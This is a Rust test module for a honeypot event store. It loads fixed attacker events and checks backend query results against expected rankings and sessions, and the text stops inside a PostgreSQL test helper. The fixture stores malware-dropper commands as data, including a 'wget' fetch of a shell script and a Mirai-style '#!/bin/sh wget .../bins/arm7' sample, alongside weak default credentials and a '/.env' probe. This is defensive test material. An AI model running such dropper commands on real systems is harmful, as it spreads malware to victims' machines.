//! The query conformance suite: every backend that answers [`EventQueries`] loads the
//! same fixed events through its [`Sink`] and must return exactly the rows written out
//! here (SQLite's answers are the reference). Enabled by the `testing` feature.
//!
//! ```no_run
//! # async fn demo() -> Result<(), hpti_store::StoreError> {
//! use hpti_store::{SqliteOptions, SqliteStore};
//! let dir = std::env::temp_dir().join("hpti-conformance-demo");
//! let store = SqliteStore::open(SqliteOptions::new(dir.join("hpti.db"))).await?;
//! hpti_store::testing::query_conformance(&store, || async {}).await;
//! # Ok(()) }
//! ```

use std::future::Future;
use std::net::IpAddr;

use hpti_core::event::Timestamp;
use hpti_core::event::{Asn, AuthMethod, Enrichment, Event, EventId, EventKind, Geo, Protocol};
use hpti_core::sink::Sink;

use crate::error::StoreError;

mod alerts;
#[cfg(feature = "elasticsearch")]
mod fake_es;
mod rollups;
use crate::query::{
    AttackerSummary, CommandCount, CredentialCount, Cursor, DownloadSummary, EventFilter,
    EventQueries, FileFacts, SessionSummary, Window,
};
pub use alerts::alert_store_conformance;
#[cfg(feature = "elasticsearch")]
pub use fake_es::{EsState, FakeEs, fake_es};
pub use rollups::{
    assert_rankings_match, expected_attackers, expected_commands, expected_credentials,
    expected_downloads, expected_overview, rollup_conformance, rollup_fixture, rollup_windows,
};

/// 2026-01-01T00:00:00Z: the fixture's events are at fixed times, so expected rows
/// can be written out.
pub const FIXTURE_BASE_MICROS: i64 = 1_767_225_600_000_000;

/// The first attacker: one SSH session, enriched (NL, AS64500).
pub const ADDRESS_A: &str = "203.0.113.10";
/// The second attacker: a Telnet and an SSH session, no enrichment.
pub const ADDRESS_B: &str = "198.51.100.20";
/// The third: one HTTP request from a log, no session.
pub const ADDRESS_C: &str = "2001:db8::7";

/// The file both attackers downloaded.
pub const SHA_SHARED: &str = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
/// The file only the second attacker downloaded.
pub const SHA_SECOND: &str = "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae";

fn at(seconds: i64) -> Timestamp {
    Timestamp::from_micros(FIXTURE_BASE_MICROS + seconds * 1_000_000)
}

fn addr(text: &str) -> IpAddr {
    text.parse().unwrap_or(IpAddr::from([0, 0, 0, 0]))
}

fn login(username: &str, password: &str, success: bool) -> EventKind {
    EventKind::LoginAttempt {
        username: username.into(),
        password: Some(password.into()),
        key_type: None,
        key_fingerprint: None,
        method: AuthMethod::Password,
        success,
    }
}

fn command(line: &str) -> EventKind {
    EventKind::CommandInput {
        command: line.into(),
    }
}

fn download(url: &str, sha256: &str, size: u64) -> EventKind {
    EventKind::FileDownload {
        url: url.into(),
        sha256: Some(sha256.into()),
        size: Some(size),
        error: None,
    }
}

/// The enrichment every event of [`ADDRESS_A`] carries.
pub fn enrichment_a() -> Enrichment {
    Enrichment {
        geo: Some(Geo {
            country_code: Some("NL".into()),
            country: Some("Netherlands".into()),
            city: None,
            latitude: Some(52.3824),
            longitude: Some(4.8995),
        }),
        asn: Some(Asn {
            number: 64500,
            organization: Some("Example Hosting".into()),
        }),
        tags: vec!["known-scanner".into()],
        ..Enrichment::default()
    }
}

/// The fixed events of the suite: three addresses, three sessions, logins, commands
/// (two at the same instant, to test ordering ties), downloads and an HTTP request.
pub fn fixture() -> Vec<Event> {
    let (a, b, c) = (addr(ADDRESS_A), addr(ADDRESS_B), addr(ADDRESS_C));
    fn session(
        ip: IpAddr,
        sensor: &'static str,
        protocol: Protocol,
        session: &'static str,
        port: u16,
    ) -> impl Fn(i64, EventKind) -> Event {
        move |seconds, kind| {
            Event::new(sensor, protocol.clone(), ip, kind)
                .with_session(session)
                .with_source_port(port)
                .with_destination(IpAddr::from([192, 0, 2, 1]), 22)
                .with_time(at(seconds))
        }
    }
    let a1 = session(a, "ssh", Protocol::Ssh, "a1", 40001);
    let b1 = session(b, "telnet", Protocol::Telnet, "b1", 40002);
    let b2 = session(b, "ssh", Protocol::Ssh, "b2", 40003);
    let mut events = vec![
        a1(0, EventKind::SessionStarted),
        a1(
            1,
            EventKind::ClientVersion {
                version: "SSH-2.0-libssh_0.9.6".into(),
            },
        ),
        a1(2, login("root", "123456", false)),
        a1(3, login("root", "admin", true)),
        a1(4, command("uname -a")),
        a1(5, command("wget http://198.51.100.9/x.sh")),
        a1(6, download("http://198.51.100.9/x.sh", SHA_SHARED, 4)),
        a1(
            7,
            EventKind::SessionClosed {
                duration_ms: 7000,
                recording: None,
            },
        ),
    ];
    // A command line cut where it was captured: the record of the cut is stored too.
    events[5].truncated = vec![hpti_core::event::Truncation {
        field: "command".into(),
        length: 70_000,
        sha256: SHA_SHARED.into(),
    }];
    for event in &mut events {
        event.enrichment = enrichment_a();
    }
    // The download carries what hpti learnt of its file: the analysis of its bytes and
    // VirusTotal's file report (an address's detail leaves both out).
    events[6].enrichment.file = Some(shared_file_analysis());
    events[6]
        .enrichment
        .reputation
        .push(hpti_core::event::Reputation {
            source: "virustotal".into(),
            score: None,
            malicious: Some(31),
            total: Some(64),
            details: [
                ("type".to_owned(), serde_json::json!("file")),
                (
                    "threat_label".to_owned(),
                    serde_json::json!("trojan.mirai/shell"),
                ),
            ]
            .into_iter()
            .collect(),
        });
    events.extend([
        b1(10, EventKind::SessionStarted),
        b1(11, login("root", "123456", false)),
        b1(12, login("admin", "admin", false)),
        b1(
            13,
            EventKind::SessionClosed {
                duration_ms: 3000,
                recording: None,
            },
        ),
        b2(20, EventKind::SessionStarted),
        b2(21, login("root", "123456", true)),
        b2(22, command("uname -a")),
        b2(22, command("cat /proc/cpuinfo")),
        b2(23, download("http://203.0.113.99/x.sh", SHA_SHARED, 4)),
        b2(24, download("http://203.0.113.99/y", SHA_SECOND, 10)),
        Event::new(
            "web-log",
            Protocol::Http,
            c,
            EventKind::HttpRequest {
                method: "GET".into(),
                uri: "/.env".into(),
                host: Some("192.0.2.1".into()),
                user_agent: Some("curl/8.5.0".into()),
                status: Some(404),
                labels: Vec::new(),
                detail: None,
            },
        )
        .with_time(at(30)),
    ]);
    // Ids fixed by content, so that a re-run writes the same events.
    for (i, event) in events.iter_mut().enumerate() {
        event.id = EventId::derived(event.time, &[b"query-conformance", &i.to_le_bytes()]);
    }
    events
}

fn session_summary(session: &str) -> SessionSummary {
    match session {
        "a1" => SessionSummary {
            session: "a1".into(),
            sensor: "ssh".into(),
            protocol: "ssh".into(),
            src_ip: addr(ADDRESS_A),
            started: at(0),
            last_seen: at(7),
            duration_ms: Some(7000),
            client_version: Some("SSH-2.0-libssh_0.9.6".into()),
            login_attempts: 2,
            logged_in: true,
            commands: 2,
            downloads: 1,
        },
        "b1" => SessionSummary {
            session: "b1".into(),
            sensor: "telnet".into(),
            protocol: "telnet".into(),
            src_ip: addr(ADDRESS_B),
            started: at(10),
            last_seen: at(13),
            duration_ms: Some(3000),
            client_version: None,
            login_attempts: 2,
            logged_in: false,
            commands: 0,
            downloads: 0,
        },
        _ => SessionSummary {
            session: "b2".into(),
            sensor: "ssh".into(),
            protocol: "ssh".into(),
            src_ip: addr(ADDRESS_B),
            started: at(20),
            last_seen: at(24),
            duration_ms: None,
            client_version: None,
            login_attempts: 1,
            logged_in: true,
            commands: 2,
            downloads: 2,
        },
    }
}

fn credential(
    username: &str,
    password: &str,
    attempts: u64,
    successes: u64,
    sources: u64,
) -> CredentialCount {
    CredentialCount {
        username: username.into(),
        password: Some(password.into()),
        attempts,
        successes,
        sources,
    }
}

fn command_count(line: &str, count: u64, sources: u64) -> CommandCount {
    CommandCount {
        command: line.into(),
        count,
        sources,
        labels: Vec::new(),
    }
}

fn download_summary(
    sha256: &str,
    count: u64,
    first: i64,
    last: i64,
    size: u64,
    src_ips: &[&str],
    urls: &[&str],
) -> DownloadSummary {
    DownloadSummary {
        sha256: sha256.into(),
        count,
        uploads: 0,
        first_seen: at(first),
        last_seen: at(last),
        size: Some(size),
        sources: src_ips.len() as u64,
        src_ips: src_ips.iter().map(|s| (*s).to_owned()).collect(),
        url_count: urls.len() as u64,
        urls: urls.iter().map(|s| (*s).to_owned()).collect(),
        filenames: Vec::new(),
        session: None,
        src_ip: None,
        url: None,
        file: FileFacts::default(),
    }
}

/// A downloads ranking's row: `row` with its latest download.
fn latest(mut row: DownloadSummary, session: &str, src_ip: &str, url: &str) -> DownloadSummary {
    row.session = Some(session.into());
    row.src_ip = Some(src_ip.into());
    row.url = Some(url.into());
    row
}

/// [`SHA_SHARED`]'s row of the all-time downloads ranking.
fn shared_all_time() -> DownloadSummary {
    let mut row = latest(
        download_summary(
            SHA_SHARED,
            2,
            6,
            23,
            4,
            &[ADDRESS_B, ADDRESS_A],
            &["http://198.51.100.9/x.sh", "http://203.0.113.99/x.sh"],
        ),
        "b2",
        ADDRESS_B,
        "http://203.0.113.99/x.sh",
    );
    row.file = shared_file_facts();
    row
}

/// [`SHA_SECOND`]'s row of the all-time downloads ranking (nothing known of its file).
fn second_all_time() -> DownloadSummary {
    latest(
        download_summary(
            SHA_SECOND,
            1,
            24,
            24,
            10,
            &[ADDRESS_B],
            &["http://203.0.113.99/y"],
        ),
        "b2",
        ADDRESS_B,
        "http://203.0.113.99/y",
    )
}

/// The analysis of [`SHA_SHARED`] that the fixture's first download of it carries.
pub fn shared_file_analysis() -> hpti_core::file::FileAnalysis {
    hpti_core::file::FileAnalysis {
        kind: hpti_core::file::detect(b"#!/bin/sh\nwget http://198.51.100.9/bins/arm7\n"),
        size: 4,
        yara_matches: vec!["shell_dropper".into(), "Mirai_Loader".into()],
    }
}

/// The facts the downloads view gives [`SHA_SHARED`]: its analysis and VirusTotal's
/// report, both carried by the fixture's first download of it.
fn shared_file_facts() -> FileFacts {
    let analysis = shared_file_analysis();
    FileFacts {
        file_type: Some(analysis.kind.file_type),
        mime: Some(analysis.kind.mime),
        file_category: Some("script".into()),
        arch: None,
        is_previewable: true,
        yara_matches: vec!["Mirai_Loader".into(), "shell_dropper".into()],
        vt_detections: Some(31),
        vt_total: Some(64),
        vt_threat_label: Some("trojan.mirai/shell".into()),
    }
}

#[allow(clippy::too_many_arguments)]
fn attacker_summary(
    ip: &str,
    events: u64,
    sessions: u64,
    login_attempts: u64,
    commands: u64,
    first: i64,
    last: i64,
    geo: Option<(&str, u32)>,
) -> AttackerSummary {
    AttackerSummary {
        src_ip: addr(ip),
        events,
        sessions,
        login_attempts,
        commands,
        first_seen: at(first),
        last_seen: at(last),
        country: geo.map(|(country, _)| country.to_owned()),
        asn: geo.map(|(_, asn)| asn),
    }
}

/// The ids of `events` that pass `keep`, newest first by (time, id): what
/// [`EventQueries::events`] must list.
fn expected_ids(events: &[Event], keep: impl Fn(&Event) -> bool) -> Vec<EventId> {
    let mut kept: Vec<&Event> = events.iter().filter(|e| keep(e)).collect();
    kept.sort_by_key(|e| std::cmp::Reverse((e.time, e.id)));
    kept.into_iter().map(|e| e.id).collect()
}

/// Follows the cursor through every page; panics if a page is larger than asked.
async fn all_pages<Q: EventQueries + ?Sized>(
    store: &Q,
    window: Window,
    filter: &EventFilter,
) -> Vec<Event> {
    let mut events = Vec::new();
    let mut cursor: Option<Cursor> = None;
    for _ in 0..1000 {
        let page = store.events(window, filter, cursor.as_ref()).await;
        let page = match page {
            Ok(page) => page,
            Err(err) => panic!("events({window:?}, {filter:?}) failed: {err}"),
        };
        assert!(
            page.events.len() <= window.limit as usize,
            "a page holds at most `limit` events"
        );
        events.extend(page.events);
        match page.next {
            Some(next) => cursor = Some(next),
            None => return events,
        }
    }
    panic!("events() never returned a last page");
}

fn is_invalid<T: std::fmt::Debug>(result: Result<T, StoreError>) -> bool {
    matches!(result, Err(StoreError::InvalidInput(_)))
}

fn is_not_found<T: std::fmt::Debug>(result: Result<T, StoreError>) -> bool {
    matches!(result, Err(StoreError::NotFound(_)))
}

/// Runs the query conformance suite on an empty store that is both the sink and the
/// query side. `settle` is awaited after the fixture is written, for a backend that
/// makes writes visible to queries asynchronously (a refresh); SQLite needs nothing.
///
/// # Panics
/// On the first wrong row, with a message naming the query (this is a test helper).
pub async fn query_conformance<Q, F, Fut>(store: &Q, settle: F)
where
    Q: Sink + EventQueries + ?Sized,
    F: Fn() -> Fut,
    Fut: Future<Output = ()>,
{
    assert_eq!(
        store.count_events().await.ok(),
        Some(0),
        "the suite needs an empty store"
    );
    let events = fixture();
    let refs: Vec<&Event> = events.iter().collect();
    let before = store.position().await.ok().flatten();
    let report = store.write(&refs).await;
    assert!(
        matches!(&report, Ok(r) if r.rejected.is_empty() && r.retry.is_empty()),
        "the fixture must be stored whole: {report:?}"
    );
    settle().await;
    assert_eq!(store.count_events().await.ok(), Some(events.len() as u64));
    // A store that says its position moves it when events are stored, not when read.
    if let Some(before) = before {
        let after = store.position().await.ok().flatten();
        assert!(
            after.is_some_and(|after| after > before),
            "{before} -> {after:?}"
        );
        assert_eq!(store.position().await.ok().flatten(), after);
    }

    let all = Window::default().limit(100);
    // Half-open: from the first Telnet login to just before the last download.
    let window = Window::default().since(at(10)).until(at(24)).limit(100);
    let (a, b) = (addr(ADDRESS_A), addr(ADDRESS_B));

    // Rankings over all time and over a window.
    assert_eq!(
        store.credentials(all).await.ok(),
        Some(vec![
            credential("root", "123456", 3, 1, 2),
            credential("admin", "admin", 1, 0, 1),
            credential("root", "admin", 1, 1, 1),
        ]),
        "credentials, all time"
    );
    assert_eq!(
        store.credentials(window).await.ok(),
        Some(vec![
            credential("root", "123456", 2, 1, 1),
            credential("admin", "admin", 1, 0, 1),
        ]),
        "credentials in [since, until)"
    );
    assert_eq!(
        store.credentials(all.limit(1)).await.ok(),
        Some(vec![credential("root", "123456", 3, 1, 2)]),
        "credentials, limit 1"
    );
    assert_eq!(
        store.commands(all).await.ok(),
        Some(vec![
            command_count("uname -a", 2, 2),
            command_count("cat /proc/cpuinfo", 1, 1),
            command_count("wget http://198.51.100.9/x.sh", 1, 1),
        ]),
        "commands, all time"
    );
    assert_eq!(
        store.commands(window).await.ok(),
        Some(vec![
            command_count("cat /proc/cpuinfo", 1, 1),
            command_count("uname -a", 1, 1),
        ]),
        "commands in [since, until)"
    );
    assert_eq!(
        store.downloads(all).await.ok(),
        Some(vec![shared_all_time(), second_all_time()]),
        "downloads, all time"
    );
    let mut shared_in_window = latest(
        download_summary(
            SHA_SHARED,
            1,
            23,
            23,
            4,
            &[ADDRESS_B],
            &["http://203.0.113.99/x.sh"],
        ),
        "b2",
        ADDRESS_B,
        "http://203.0.113.99/x.sh",
    );
    shared_in_window.file = shared_file_facts();
    assert_eq!(
        store.downloads(window).await.ok(),
        Some(vec![shared_in_window]),
        "downloads in [since, until)"
    );
    assert_eq!(
        store.download(SHA_SECOND).await.ok(),
        Some(second_all_time()),
        "one download"
    );
    assert!(
        matches!(
            store.download(&"0".repeat(64)).await,
            Err(StoreError::NotFound(_))
        ),
        "an unknown file is not found"
    );
    assert_eq!(
        store.attackers(all).await.ok(),
        Some(vec![
            attacker_summary(ADDRESS_B, 10, 2, 3, 2, 10, 24, None),
            attacker_summary(ADDRESS_A, 8, 1, 2, 2, 0, 7, Some(("NL", 64500))),
            attacker_summary(ADDRESS_C, 1, 0, 0, 0, 30, 30, None),
        ]),
        "attackers, all time"
    );
    assert_eq!(
        store.attackers(window).await.ok(),
        Some(vec![attacker_summary(ADDRESS_B, 9, 2, 3, 2, 10, 23, None)]),
        "attackers in [since, until)"
    );
    assert_eq!(
        store.sessions(all).await.ok(),
        Some(vec![
            session_summary("b2"),
            session_summary("b1"),
            session_summary("a1"),
        ]),
        "sessions, all time, the most recently opened first"
    );
    assert_eq!(
        store.sessions(window).await.ok(),
        Some(vec![session_summary("b2"), session_summary("b1")]),
        "sessions with activity in [since, until)"
    );

    // Events: every filter, read back whole, in pages.
    type Case = (
        &'static str,
        Window,
        EventFilter,
        Box<dyn Fn(&Event) -> bool>,
    );
    // A command line of the fixture (entered more than once, by more than one session).
    let Some(fixture_command) = events.iter().find_map(|e| match &e.kind {
        EventKind::CommandInput { command } => Some(command.clone()),
        _ => None,
    }) else {
        panic!("the fixture has command lines");
    };
    let cases: Vec<Case> = vec![
        ("all", all, EventFilter::default(), Box::new(|_| true)),
        (
            "a window",
            window,
            EventFilter::default(),
            Box::new(|e| e.time >= at(10) && e.time < at(24)),
        ),
        (
            "src_ip",
            all,
            EventFilter::default().src_ip(b),
            Box::new(move |e| e.src_ip == b),
        ),
        (
            "session",
            all,
            EventFilter::default().session("b2"),
            Box::new(|e| e.session.as_deref() == Some("b2")),
        ),
        (
            "sensor",
            all,
            EventFilter::default().sensor("telnet"),
            Box::new(|e| e.sensor == "telnet"),
        ),
        (
            "protocol",
            all,
            EventFilter::default().protocol("http"),
            Box::new(|e| e.protocol == Protocol::Http),
        ),
        (
            "kind",
            all,
            EventFilter::default().kind("login.attempt"),
            Box::new(|e| e.kind.name() == "login.attempt"),
        ),
        (
            "kind and address in a window",
            window,
            EventFilter::default().kind("login.attempt").src_ip(b),
            Box::new(move |e| {
                e.kind.name() == "login.attempt"
                    && e.src_ip == b
                    && e.time >= at(10)
                    && e.time < at(24)
            }),
        ),
        (
            "command",
            all,
            EventFilter::default().command(fixture_command.clone()),
            Box::new({
                let command = fixture_command.clone();
                move |e| e.kind.attempted_command().as_deref() == Some(command.as_str())
            }),
        ),
        (
            "nothing matches",
            all,
            EventFilter::default().src_ip(a).sensor("telnet"),
            Box::new(|_| false),
        ),
    ];
    for (name, window, filter, keep) in &cases {
        let expected = expected_ids(&events, keep);
        for limit in [100, 4, 1] {
            let got = all_pages(store, window.limit(limit), filter).await;
            let ids: Vec<EventId> = got.iter().map(|e| e.id).collect();
            assert_eq!(
                ids, expected,
                "events ({name}), {limit} a page, newest first"
            );
            for event in &got {
                let written = events.iter().find(|e| e.id == event.id);
                assert_eq!(Some(event), written, "events ({name}) read back as written");
            }
        }
    }
    let first = store
        .events(all.limit(19), &EventFilter::default(), None)
        .await;
    assert!(
        matches!(&first, Ok(page) if page.events.len() == 19 && page.next.is_none()),
        "a page that holds every event has no next cursor: {first:?}"
    );

    // One event, one session, one address.
    for event in &events {
        assert_eq!(
            store.event(event.id).await.ok().as_ref(),
            Some(event),
            "event by id"
        );
    }
    assert!(
        is_not_found(store.event(EventId::new()).await),
        "an unknown event id is not found"
    );
    for session in ["a1", "b1", "b2"] {
        let detail = store.session(session).await;
        let detail = match detail {
            Ok(detail) => detail,
            Err(err) => panic!("session {session}: {err}"),
        };
        assert_eq!(
            detail.summary,
            session_summary(session),
            "session {session}'s summary"
        );
        let mut timeline: Vec<&Event> = events
            .iter()
            .filter(|e| e.session.as_deref() == Some(session))
            .collect();
        timeline.sort_by_key(|e| (e.time, e.id));
        let got: Vec<&Event> = detail.events.iter().collect();
        assert_eq!(got, timeline, "session {session}'s timeline, oldest first");
        assert!(!detail.truncated);
    }
    assert!(
        is_not_found(store.session("no-such-session").await),
        "an unknown session is not found"
    );

    let detail = match store.attacker(a).await {
        Ok(detail) => detail,
        Err(err) => panic!("attacker {a}: {err}"),
    };
    assert_eq!(
        detail.summary,
        attacker_summary(ADDRESS_A, 8, 1, 2, 2, 0, 7, Some(("NL", 64500))),
        "attacker A's totals"
    );
    assert_eq!(
        detail.enrichments,
        vec![enrichment_a()],
        "attacker A's enrichment"
    );
    assert_eq!(
        detail.sessions,
        vec![session_summary("a1")],
        "attacker A's sessions"
    );
    assert_eq!(
        detail.credentials,
        vec![
            credential("root", "123456", 1, 0, 1),
            credential("root", "admin", 1, 1, 1)
        ],
        "attacker A's credentials"
    );
    assert_eq!(
        detail.commands,
        vec![
            command_count("uname -a", 1, 1),
            command_count("wget http://198.51.100.9/x.sh", 1, 1),
        ],
        "attacker A's commands"
    );
    assert_eq!(
        detail.downloads,
        vec![download_summary(
            SHA_SHARED,
            1,
            6,
            6,
            4,
            &[ADDRESS_A],
            &["http://198.51.100.9/x.sh"]
        )],
        "attacker A's downloads"
    );
    let detail = match store.attacker(b).await {
        Ok(detail) => detail,
        Err(err) => panic!("attacker {b}: {err}"),
    };
    assert_eq!(
        detail.summary,
        attacker_summary(ADDRESS_B, 10, 2, 3, 2, 10, 24, None)
    );
    assert!(
        detail.enrichments.is_empty(),
        "attacker B has no enrichment"
    );
    assert_eq!(
        detail.sessions,
        vec![session_summary("b2"), session_summary("b1")]
    );
    assert_eq!(
        detail.credentials,
        vec![
            credential("root", "123456", 2, 1, 1),
            credential("admin", "admin", 1, 0, 1)
        ],
        "attacker B's credentials"
    );
    assert_eq!(
        detail.commands,
        vec![
            command_count("cat /proc/cpuinfo", 1, 1),
            command_count("uname -a", 1, 1)
        ],
        "attacker B's commands"
    );
    assert_eq!(
        detail.downloads,
        vec![
            download_summary(
                SHA_SECOND,
                1,
                24,
                24,
                10,
                &[ADDRESS_B],
                &["http://203.0.113.99/y"]
            ),
            download_summary(
                SHA_SHARED,
                1,
                23,
                23,
                4,
                &[ADDRESS_B],
                &["http://203.0.113.99/x.sh"]
            ),
        ],
        "attacker B's downloads, the most recent first among equals"
    );
    assert!(
        is_not_found(store.attacker(addr("192.0.2.250")).await),
        "an address never seen is not found"
    );

    // Wrong questions are refused the same way everywhere.
    let backwards = Window::default().since(at(20)).until(at(10));
    assert!(
        is_invalid(store.credentials(backwards).await),
        "until before since"
    );
    assert!(
        is_invalid(store.commands(backwards).await),
        "until before since"
    );
    assert!(
        is_invalid(store.downloads(backwards).await),
        "until before since"
    );
    assert!(
        is_invalid(store.attackers(backwards).await),
        "until before since"
    );
    assert!(
        is_invalid(store.sessions(backwards).await),
        "until before since"
    );
    assert!(
        is_invalid(store.events(backwards, &EventFilter::default(), None).await),
        "until before since"
    );
    assert!(
        is_invalid(store.credentials(all.limit(0)).await),
        "a limit of 0"
    );
    for bad in ["", "garbage", "12.zz", "1767225600000000.0123"] {
        assert!(
            is_invalid(
                store
                    .events(
                        all,
                        &EventFilter::default(),
                        Some(&Cursor::from_string(bad))
                    )
                    .await
            ),
            "cursor {bad:?} is malformed"
        );
    }
    assert!(
        is_invalid(
            store
                .events(all, &EventFilter::default().kind("login.attempts"), None)
                .await
        ),
        "an unknown kind is refused, not answered with nothing"
    );
    timeseries_conformance(store, &events).await;
    overview_conformance(store, &events).await;
    ndjson_conformance(store).await;
    file_analysis_conformance(store).await;
}

/// The overview of a window: its distinct addresses, their countries and networks, and
/// the client versions announced, as counted from the fixture itself.
async fn overview_conformance<Q: EventQueries + ?Sized>(store: &Q, events: &[Event]) {
    let windows = [
        ("all time", Window::default()),
        ("since", Window::default().since(at(10))),
        ("since, limit 1", Window::default().since(at(1)).limit(1)),
        ("between", Window::default().since(at(10)).until(at(24))),
        ("nothing", Window::default().since(at(100_000))),
    ];
    for (name, window) in windows {
        let expected = rollups::expected_overview(events, &window);
        assert!(
            name == "nothing" || expected.addresses > 0,
            "the window {name} has addresses"
        );
        match store.overview(window).await {
            Ok(overview) => assert_eq!(overview, expected, "the overview, {name}"),
            Err(err) => panic!("the overview, {name}: {err}"),
        }
    }
}

/// The export pages: the same events, pages and cursors as [`EventQueries::events`],
/// each line the event's JSON.
async fn ndjson_conformance<Q: EventQueries + ?Sized>(store: &Q) {
    let windows = [
        Window::default(),
        // Pages whose cursor lies inside a window that ends before the newest event.
        Window::default().since(at(3)).until(at(12)),
    ];
    let filters = [
        EventFilter::default(),
        EventFilter::default().kind("file.download"),
    ];
    for (whole, filter) in windows
        .iter()
        .flat_map(|w| filters.iter().map(move |f| (*w, f)))
    {
        let Ok(all) = store.events(whole.limit(10_000), filter, None).await else {
            panic!("the window's events in one page");
        };
        assert!(all.next.is_none());
        let window = whole.limit(3);
        let (mut cursor, mut pages) = (None, 0);
        let mut paged = Vec::new();
        loop {
            let page = store.events(window, filter, cursor.as_ref()).await;
            let lines = store.events_ndjson(window, filter, cursor.as_ref()).await;
            let (Ok(page), Ok(lines)) = (page, lines) else {
                panic!("events and events_ndjson answer the same questions");
            };
            let parsed: Vec<serde_json::Value> = lines
                .lines
                .split(|b| *b == b'\n')
                .filter(|line| !line.is_empty())
                .map(|line| serde_json::from_slice(line).unwrap_or_default())
                .collect();
            let expected: Vec<serde_json::Value> = page
                .events
                .iter()
                .map(|e| serde_json::to_value(e).unwrap_or_default())
                .collect();
            assert_eq!(parsed, expected, "NDJSON page {pages} of {filter:?}");
            assert_eq!(lines.count, page.events.len());
            assert_eq!(lines.next, page.next, "the same cursor");
            paged.extend(page.events.iter().map(|e| e.id));
            pages += 1;
            match page.next {
                Some(next) => cursor = Some(next),
                None => break,
            }
        }
        assert!(pages >= 1);
        let expected: Vec<_> = all.events.iter().map(|e| e.id).collect();
        assert_eq!(
            paged, expected,
            "pages of 3 in {whole:?} of {filter:?} are the window's events, once each, in order"
        );
        if filter.kind.is_none() {
            assert!(
                pages > 1,
                "the fixture fills more than one page of {whole:?}"
            );
        }
    }
}

/// `hpti analysis rescan`: a newer analysis of a file replaces the one its events
/// carried, an older one changes nothing, and VirusTotal's report stays.
async fn file_analysis_conformance<Q: EventQueries + ?Sized>(store: &Q) {
    let mut rescanned = shared_file_analysis();
    rescanned.yara_matches = vec!["Mirai_Loader".into()];
    assert!(
        store
            .record_file_analysis(SHA_SHARED, &rescanned, at(5))
            .await
            .is_ok(),
        "an analysis is recorded"
    );
    assert_eq!(
        store.download(SHA_SHARED).await.ok(),
        Some(shared_all_time()),
        "an analysis older than the stored one changes nothing"
    );
    assert!(
        store
            .record_file_analysis(SHA_SHARED, &rescanned, at(100))
            .await
            .is_ok(),
        "an analysis is recorded"
    );
    let mut expected = shared_all_time();
    expected.file.yara_matches = vec!["Mirai_Loader".into()];
    assert_eq!(
        store.download(SHA_SHARED).await.ok(),
        Some(expected),
        "a newer analysis replaces the stored one; VirusTotal's report stays"
    );
    let mut mirai = rescanned.clone();
    mirai.kind = hpti_core::file::detect(&[
        0x7f, b'E', b'L', b'F', 1, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 40, 0,
    ]);
    assert!(
        store
            .record_file_analysis(SHA_SECOND, &mirai, at(100))
            .await
            .is_ok(),
        "an analysis of a file its events said nothing of"
    );
    let second = store.download(SHA_SECOND).await.ok().map(|d| d.file);
    assert_eq!(
        second
            .as_ref()
            .map(|f| (f.file_type.as_deref(), f.arch.as_deref(), f.vt_total)),
        Some((Some("ELF 32-bit LSB executable, ARM"), Some("ARM"), None)),
        "the file's facts: {second:?}"
    );
}

/// Timeseries: every bucket of the fixture, by kind, at three intervals, with and
/// without a kind, and the questions every backend refuses.
async fn timeseries_conformance<Q: EventQueries + ?Sized>(store: &Q, events: &[Event]) {
    use std::collections::BTreeMap;
    let first = events
        .iter()
        .map(|e| e.time)
        .min()
        .unwrap_or_else(Timestamp::now);
    let last = events
        .iter()
        .map(|e| e.time)
        .max()
        .unwrap_or_else(Timestamp::now);
    let window = Window::default()
        .since(first)
        .until(last.saturating_add_micros(1));
    for interval in [1_000_000, 60_000_000, 3_600_000_000] {
        for kind in [None, Some("login.attempt"), Some("file.download")] {
            let mut expected: BTreeMap<(i64, String), u64> = BTreeMap::new();
            for event in events {
                if kind.is_some_and(|k| k != event.kind.name()) {
                    continue;
                }
                let start = crate::query::bucket_start(event.time.as_micros(), interval);
                *expected
                    .entry((start, event.kind.name().to_owned()))
                    .or_default() += 1;
            }
            let expected: Vec<crate::query::TimeBucket> = expected
                .into_iter()
                .map(|((start, kind), count)| crate::query::TimeBucket {
                    start: Timestamp::from_micros(start),
                    kind,
                    count,
                })
                .collect();
            assert!(!expected.is_empty());
            let got = store.timeseries(window, interval, kind).await;
            assert_eq!(
                got.as_ref().ok(),
                Some(&expected),
                "timeseries every {interval} us of {kind:?}: {got:?}"
            );
        }
    }
    let is_invalid = |r: Result<Vec<crate::query::TimeBucket>, StoreError>| {
        matches!(r, Err(StoreError::InvalidInput(_)))
    };
    assert!(
        is_invalid(store.timeseries(Window::default(), 60_000_000, None).await),
        "no since"
    );
    assert!(
        is_invalid(store.timeseries(window, 999_999, None).await),
        "under a second"
    );
    assert!(
        is_invalid(
            store
                .timeseries(
                    Window::default().since(Timestamp::from_micros(0)),
                    1_000_000,
                    None
                )
                .await
        ),
        "too many buckets"
    );
    assert!(
        is_invalid(store.timeseries(window, 60_000_000, Some("logins")).await),
        "bad kind"
    );
}

/// A PostgreSQL database of its own for one test, created on the server at
/// `HPTI_POSTGRES_URL` (default `postgres://postgres@127.0.0.1:5432/postgres`) and
/// dropped by [`TestDatabase::remove`]. Databases left by test processes that have since
/// ended (a failed test never removes its own) are dropped when the next one is created.
#[cfg(feature = "postgres")]
#[derive(Debug)]
pub struct TestDatabase {
    /// The URL of the new database.
    pub url: String,
    admin_url: String,
    name: String,
}

#[cfg(feature = "postgres")]
impl TestDatabase {
    /// Creates a database, or returns `None` (saying so loudly) when no server answers.
    ///
    /// # Panics
    /// When no server answers and `HPTI_REQUIRE_SERVICES=1`, or the server refuses to
    /// create a database.
    pub async fn create() -> Option<Self> {
        use sqlx::Connection as _;
        use std::sync::atomic::{AtomicU32, Ordering};
        static NEXT: AtomicU32 = AtomicU32::new(0);
        let admin_url = std::env::var("HPTI_POSTGRES_URL")
            .unwrap_or_else(|_| "postgres://postgres@127.0.0.1:5432/postgres".into());
        let mut admin = match sqlx::PgConnection::connect(&admin_url).await {
            Ok(admin) => admin,
            Err(err) if std::env::var("HPTI_REQUIRE_SERVICES").as_deref() == Ok("1") => {
                panic!("PostgreSQL at {admin_url} is required (HPTI_REQUIRE_SERVICES=1): {err}")
            }
            Err(err) => {
                eprintln!(
                    "\n*** SKIPPED: PostgreSQL at {admin_url} is not available ({err}); set HPTI_POSTGRES_URL ***\n"
                );
                return None;
            }
        };
        let leftovers: Vec<String> = sqlx::query_scalar(
            "SELECT datname::text FROM pg_database WHERE datname LIKE 'hpti\\_test\\_%'",
        )
